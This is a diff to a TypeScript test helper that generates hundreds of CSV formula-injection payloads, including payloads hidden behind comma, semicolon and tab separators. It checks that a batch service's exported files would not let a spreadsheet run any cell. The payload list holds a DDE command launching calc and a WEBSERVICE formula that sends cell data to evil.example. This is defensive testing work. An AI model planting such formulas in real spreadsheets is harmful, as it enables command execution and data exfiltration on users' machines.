@@ -19,16 +19,46 @@ const tails = [
   'a\r\n=b', 'DDE("cmd";"/C calc";"x")', '2+3;=4', 'WEBSERVICE("http://evil.example/"&A1)', '\u202e)1(MUS', 'É Ω 漢 🙂'
 ]
 
-/** 300 of them. */
-export const payloads: readonly string[] = signs.flatMap((sign) => tails.map((tail) => sign + tail))
+/** Where a spreadsheet that splits there would begin another cell. */
+const cuts = ['a;', 'a\t', 'a,', 'a\n', 'a";', '"a,b";']
+
+/** 450 of them: 300 that begin like a formula, and 150 with one behind a separator. */
+export const payloads: readonly string[] = [...signs.flatMap((sign) => tails.map((tail) => sign + tail)), ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}1+1${cut.at(-1)}b`))]
 
 // Written apart from the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a sign.
 const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
 
+const isFormula = (cell: string): boolean => starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
 /** Whether a spreadsheet would take a cell for a formula, or for the beginning of another cell. */
-export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
+export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || isFormula(cell)
 
-export const cellsOf = (path: string): string[] => (parse(readFileSync(path), { bom: true, relax_column_count: true }) as string[][]).flat()
+/** The separators at which spreadsheets split a CSV file, by their locale or by choice. */
+export const separators = { comma: ',', semicolon: ';', tab: '\t' } as const
+type Separator = (typeof separators)[keyof typeof separators]
+
+/**
+ * The cells of a spreadsheet that splits elsewhere than the file does. Programs differ in what a quote is to them in
+ * the middle of a field: nothing, or (where it comes first) the beginning of what is not split. Both are looked at.
+ */
+export function cellsSplitAt(text: string, separator: string): string[] {
+  const cells = text.replaceAll('"', '').split(/[\r\n]/).flatMap((line) => line.split(separator))
+  for (let at = 0; at < text.length; at += 1) {
+    let cell = ''
+    if (text[at] === '"') {
+      for (at += 1; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
+        cell += text[at]
+        if (text[at] === '"') at += 1
+      }
+      at += 1
+    }
+    for (; at < text.length && text[at] !== separator && !/[\r\n]/.test(text[at] ?? ''); at += 1) cell += text[at]
+    cells.push(cell)
+  }
+  return cells
+}
+
+export const cellsOf = (path: string, delimiter: Separator = ','): string[] =>
+  (parse(readFileSync(path), { bom: true, relax_column_count: true, delimiter }) as string[][]).flat()
 export const linesOf = <T = Record<string, unknown>>(path: string): T[] => readFileSync(path, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as T)
 
 export interface Written {
@@ -39,12 +69,18 @@ export interface Written {
   readonly faults: readonly string[]
 }
 
-/** A CSV file: how many of its cells a spreadsheet would run, and whether those attacked are otherwise as they were. */
-function judged(file: string, path: string): Written {
-  const cells = cellsOf(path)
-  const known = new Set(payloads)
-  const attacked = cells.filter((cell) => known.has(cell) || (cell.startsWith(`'`) && known.has(cell.slice(1)))).length
-  return { file, cells: cells.length, attacked, faults: cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`) }
+const bare = (cell: string): string => cell.replaceAll("'", '')
+const known = new Set(payloads.map(bare))
+
+/** A CSV file: how many of its cells a spreadsheet would run, at whichever separator it splits. */
+function judged(file: string, path: string, own: Separator = ','): Written {
+  const cells = cellsOf(path, own)
+  const attacked = cells.filter((cell) => known.has(bare(cell))).length
+  const text = readFileSync(path, 'utf8').replace(/^\ufeff/, '')
+  const elsewhere = Object.entries(separators).flatMap(([name, separator]) =>
+    separator === own ? [] : cellsSplitAt(text, separator).filter(isFormula).map((cell) => `${file}: ${JSON.stringify(cell)} would run where it is split at a ${name}`)
+  )
+  return { file, cells: cells.length, attacked, faults: [...cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`), ...elsewhere] }
 }
 
 /** A lossless file: the texts in it are exactly those that were put in, in their order. */
@@ -83,10 +119,12 @@ async function hostileService(): Promise<{ readonly baseUrl: string; close(): vo
 }
 
 /** A batch whose headings and cells are attacked, run against a service whose answers are; every file of it. */
-async function batchFiles(ground: Ground, folder: string): Promise<Written[]> {
-  const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload])
-  const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows])
-  const checked = await must(ground.batches.checkText('rows.csv', text, { operation: 'get-applicant-details' }))
+async function batchFiles(ground: Ground, folder: string, [name, delimiter]: readonly [string, Separator]): Promise<Written[]> {
+  // What begins like a formula is the same in each; what has one behind a separator is not.
+  const first = delimiter === ',' ? 0 : payloads.length - 250
+  const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload]).slice(first)
+  const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows], { delimiter })
+  const checked = await must(ground.batches.checkText('rows.csv', text, { operation: 'get-applicant-details', delimiter }))
   const { id } = await must(ground.batches.make({ checkId: checked.checkId, connectionId: groundConnection.id, name: '=1+1', atOnce: 8, pace: 0, skipDuplicates: false, skipLately: false }))
   await must(ground.batches.start(id))
   await ground.batches.ended(id)
@@ -94,12 +132,12 @@ async function batchFiles(ground: Ground, folder: string): Promise<Written[]> {
   for (const file of ['results', 'failed', 'unknown', 'faulty'] as const satisfies readonly BatchFile[]) {
     const path = join(folder, `${file}.csv`)
     await must(ground.batches.saveTo(id, file, path))
-    written.push(judged(`batch, ${file} (CSV)`, path))
+    written.push(judged(`batch, ${file} (CSV, ${name})`, path, delimiter))
   }
   const path = join(folder, 'lossless.jsonl')
   await must(ground.batches.saveTo(id, 'lossless', path))
   const lines = linesOf<{ readonly cells: readonly string[] }>(path).slice(1)
-  written.push(lossless('batch, lossless (JSON lines)', lines.map(({ cells }) => cells[1]), payloads))
+  written.push(lossless(`batch, lossless (JSON lines, from ${name})`, lines.map(({ cells }) => cells[1]), payloads.slice(first)))
   return written
 }
 
@@ -141,7 +179,9 @@ export function writeEverywhere(): Promise<Written[]> {
     const service = await hostileService()
     const ground = await openGround({ folder: join(folder, 'history'), baseUrl: service.baseUrl, masterKey: '0123456789abcdef'.repeat(4) })
     try {
-      return [...(await batchFiles(ground, folder)), ...(await exported(ground, folder))]
+      const written: Written[] = []
+      for (const separator of Object.entries(separators)) written.push(...(await batchFiles(ground, folder, separator)))
+      return [...written, ...(await exported(ground, folder))]
     } finally {
       await ground.close()
       service.close()
